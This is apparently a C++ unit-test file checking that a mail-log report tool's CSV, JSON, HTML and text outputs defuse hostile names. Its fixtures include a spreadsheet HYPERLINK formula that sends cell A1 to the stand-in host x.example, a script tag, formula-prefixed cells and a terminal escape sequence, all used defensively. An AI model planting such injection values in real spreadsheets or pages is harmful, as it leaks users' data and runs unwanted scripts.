// The output formats: each must hold the numbers, and none may let a name
// from a mail log break its syntax or run as a formula or a script.
#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "fixtures.h"
#include "report_render.h"

using namespace mtls::report;
using fixtures::Format;

namespace {

const Timestamp kReference = Timestamp{std::chrono::seconds{1764028800}};

// Printable ASCII, as the parser demands of every record string, but with
// every character that means something in CSV, HTML or a spreadsheet.
const std::string kNasty = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\"),<script>alert('x')</script>&amp;";

Summary sample() {
    Summary summary({});
    summary.add_line(fixtures::short_iso_line(
                         "2025-11-24T10:00:00Z",
                         fixtures::body(fixtures::at(fixtures::passing(), "2025-11-24T10:00:00Z"), Format::text)),
                     kReference);
    summary.add_line(fixtures::short_iso_line(
                         "2025-11-24T12:00:00Z",
                         fixtures::body(fixtures::at(fixtures::failing(), "2025-11-24T12:00:00Z"), Format::json)),
                     kReference);
    summary.add_line("garbage", kReference);
    // A forged record: the log file is not the milter's, but its strings
    // are printable and so get through; outputs must still contain them.
    Record nasty;
    nasty.identity_type = "smtp.mailfrom";
    nasty.identity = "-2+3.example";
    nasty.cert_names = {kNasty, "@SUM(1+1)", "a,b\"c"};
    nasty.client_mx = {"10:" + kNasty};
    nasty.result = mtls::Result::fail;
    nasty.reason = kNasty;
    nasty.dnssec = "secure";
    summary.add_record(nasty, kReference);
    return summary;
}

RenderOptions options() {
    RenderOptions out;
    out.generated = kReference;
    out.files.push_back({"mail.log", 3, true, ""});
    out.files.push_back({"bad\x1b[2Jname\xff", 0, false, "No such file or directory"});
    return out;
}

// An RFC 4180 reader: fields, quoted with "" inside, records ending in CRLF.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string field;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                field.push_back('"');
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field.push_back(c);
            }
        } else if (c == '"') {
            REQUIRE(field.empty());
            quoted = true;
        } else if (c == ',') {
            rows.back().push_back(field);
            field.clear();
        } else if (c == '\r') {
            REQUIRE(i + 1 < text.size());
            REQUIRE(text[i + 1] == '\n');
            rows.back().push_back(field);
            field.clear();
            rows.emplace_back();
            ++i;
        } else {
            REQUIRE(c != '\n');  // a bare LF would end a record in some readers
            field.push_back(c);
        }
    }
    REQUIRE_FALSE(quoted);
    REQUIRE(field.empty());
    REQUIRE(rows.back().empty());
    rows.pop_back();
    return rows;
}

}  // namespace

TEST_CASE("csv_field quotes and defuses formulas", "[report][render]") {
    CHECK(csv_field("example.org") == "example.org");
    CHECK(csv_field("") == "");
    CHECK(csv_field("=1+2") == "'=1+2");
    CHECK(csv_field("+1") == "'+1");
    CHECK(csv_field("-1") == "'-1");
    CHECK(csv_field("@SUM(A1)") == "'@SUM(A1)");
    CHECK(csv_field("a,b") == "\"a,b\"");
    CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(csv_field("=\"x\",y") == "\"'=\"\"x\"\",y\"");
    CHECK(csv_field(" padded") == "\" padded\"");
}

TEST_CASE("html_escape", "[report][render]") {
    CHECK(html_escape("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
}

TEST_CASE("CSV: one well-formed row per domain, no live formula", "[report][render]") {
    const auto summary = sample();
    std::ostringstream out;
    render_csv(out, summary, options());
    const auto rows = parse_csv(out.str());
    REQUIRE(rows.size() == 3);  // header, example.org, the forged domain
    for (const auto& row : rows) {
        CHECK(row.size() == rows.front().size());
        for (const auto& cell : row) {
            INFO(cell);
            CHECK((cell.empty() || std::string_view("=+-@").find(cell.front()) == std::string_view::npos));
        }
    }
    CHECK(rows[1][0] == "example.org");
    CHECK(rows[1][1] == "2");
    CHECK(rows[2][0] == "'-2+3.example");
    CHECK(rows[2][10].find(kNasty) != std::string::npos);  // the data is kept, just defused
}

TEST_CASE("JSON: the numbers, and valid JSON whatever the names", "[report][render]") {
    const auto summary = sample();
    std::ostringstream out;
    render_json(out, summary, options());
    const auto report = nlohmann::json::parse(out.str());
    CHECK(report["input"]["lines_read"] == 3);
    CHECK(report["input"]["lines_used"] == 2);
    CHECK(report["input"]["skipped"][0]["reason"] == "not_mtls");
    CHECK(report["totals"]["messages"] == 3);
    CHECK(report["totals"]["fail"] == 2);
    CHECK(report["domains"][0]["domain"] == "example.org");
    CHECK(report["domains"][0]["fail_share"] == Approx(0.5));
    CHECK(report["reject_readiness"]["failing_domains"].size() == 2);
    CHECK(report["timeline"]["bucket_seconds"] == Timeline::kHour);
    CHECK(report["input"]["files"][1]["name"] == "bad\\x1b[2Jname\\xff");
}

TEST_CASE("HTML: self-contained, escaped, with a chart", "[report][render]") {
    const auto summary = sample();
    std::ostringstream out;
    render_html(out, summary, options());
    const auto html = out.str();
    CHECK(html.find("<svg") != std::string::npos);
    CHECK(html.find("<script") == std::string::npos);
    CHECK(html.find("HYPERLINK(&quot;http://x.example/?&quot;&amp;A1") != std::string::npos);
    CHECK(html.find("\x1b") == std::string::npos);
    // Nothing to fetch: the SVG namespace is an identifier, not a resource.
    std::string rest = html;
    for (std::size_t at = rest.find("://"); at != std::string::npos; at = rest.find("://", at + 1)) {
        const auto around = rest.substr(at - 4, 30);
        INFO(around);
        CHECK((around.starts_with("http://www.w3.org/2000/svg") || around.starts_with("http://x.example")));
    }
    for (const char* tag : {"<link", "<img", "<iframe", "<object", "src=", "url("}) {
        INFO(tag);
        CHECK(html.find(tag) == std::string::npos);
    }
}

TEST_CASE("text: an aligned table and the reject advice", "[report][render]") {
    const auto summary = sample();
    std::ostringstream out;
    render_text(out, summary, options());
    const auto text = out.str();
    CHECK(text.find("DOMAIN") != std::string::npos);
    CHECK(text.find("on-fail=reject would have rejected 2 messages from 2 domains") != std::string::npos);
    CHECK(text.find("\x1b") == std::string::npos);
    // The numeric columns line up: every row of the table is as long as its header.
    std::istringstream lines(text);
    std::string line;
    std::size_t header_mxs = std::string::npos;
    while (std::getline(lines, line)) {
        if (line.starts_with("DOMAIN ")) {
            header_mxs = line.find("CLIENT-MX");
        } else if (header_mxs != std::string::npos && line.starts_with("example.org ")) {
            CHECK(line.substr(header_mxs, 3) == "yes");
        }
    }
    CHECK(header_mxs != std::string::npos);
}
